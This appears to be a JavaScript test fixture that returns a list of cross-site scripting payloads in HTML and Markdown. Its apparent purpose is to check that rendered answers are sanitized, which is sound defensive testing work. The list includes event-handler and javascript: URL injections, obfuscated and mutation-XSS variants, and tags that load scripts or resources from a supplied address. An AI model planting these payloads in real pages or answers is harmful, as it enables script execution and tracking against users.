// Answers that mean harm: markup, Markdown and what lies between, each of which would run a script, ask
// `address` or lead there in a page that put it in as it is.

/** What scripts leave behind. */
const RUN = "document.title='taken'";

export function hostileAnswers(address) {
  return [
    `<script>${RUN}</script>`,
    `<script src="${address}/s"></script>`,
    `<img src=x onerror="${RUN}">`,
    `<img src="${address}/i" srcset="${address}/j 2x">`,
    `<svg onload="${RUN}"><image href="${address}/v"/></svg>`,
    `<svg><script href="${address}/w"/></svg>`,
    `<iframe src="${address}/f"></iframe>`,
    `<iframe srcdoc="<script>top.${RUN}</script>"></iframe>`,
    `<object data="${address}/o"></object><embed src="${address}/e">`,
    `<link rel="stylesheet" href="${address}/l"><link rel="preconnect" href="${address}">`,
    `<style>@import "${address}/c"; * { background: url(${address}/b) }</style>`,
    `<p style="background:url(${address}/p)">x</p>`,
    `<video poster="${address}/q" src="${address}/u" onloadstart="${RUN}"></video>`,
    `<audio src=x onerror="${RUN}" autoplay></audio>`,
    `<input autofocus onfocus="${RUN}">`,
    `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
    `<form action="${address}/a"><button formaction="javascript:${RUN}">x</button></form>`,
    `<base href="${address}/"><a href="x" ping="${address}/g">x</a>`,
    `<meta http-equiv="refresh" content="0; url=${address}/r">`,
    `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
    `<noscript><p title="</noscript><img src=x onerror='${RUN}'>">`,
    `<template><img src=x onerror="${RUN}"></template><marquee onstart="${RUN}">x</marquee>`,
    `![x](${address}/m) ![x][y]\n\n[y]: ${address}/n`,
    `[x](javascript:${RUN}) [x](JaVaScRiPt&colon;${RUN}) [x](\u0001javascript:${RUN})`,
    `[x](data:text/html,<script>${RUN}</script>) <javascript:${RUN}>`,
    `[![x](${address}/k)](${address}/h "onmouseover=${RUN}")`,
    `| a | b |\n|---|---|\n| <img src=x onerror="${RUN}"> | ![x](${address}/t) |`,
    `\`<img src=x onerror="${RUN}">\` \n\n    <script>${RUN}</script>\n\n\`\`\`html\n<img src=x onerror="${RUN}">`,
    `- [ ] <b onmouseover="${RUN}">x</b>\n> <a href="javascript:${RUN}">x</a> [1](${address}/z) [99]`,
    `&lt;img src=x onerror=${RUN}&gt; &#60;script&#62;${RUN}&#60;/script&#62; \\<img src=x onerror="${RUN}">`,
  ];
}
